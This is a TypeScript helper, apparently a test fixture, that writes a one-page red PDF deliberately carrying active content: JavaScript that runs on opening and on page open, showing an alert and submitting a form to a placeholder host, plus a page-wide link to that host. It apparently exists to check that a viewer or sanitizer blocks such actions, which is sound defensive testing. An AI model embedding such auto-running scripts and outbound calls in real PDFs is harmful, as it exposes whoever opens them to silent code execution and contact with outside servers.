/** A PDF of one red page that would act if anything let it: a script on opening, a link to elsewhere, a script in its page. */
export function writeHostilePdf(): Buffer {
  const paint = '1 0 0 rg 0 0 200 200 re f';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Annots [6 0 R] /AA << /O 5 0 R >> >>',
    `<< /Length ${paint.length} >>\nstream\n${paint}\nendstream`,
    '<< /S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("https://elsewhere.example/"\\)) >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (https://elsewhere.example/) >> >>',
  ];
  let text = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = text.length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  return Buffer.from(
    `${text}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`,
    'latin1',
  );
}
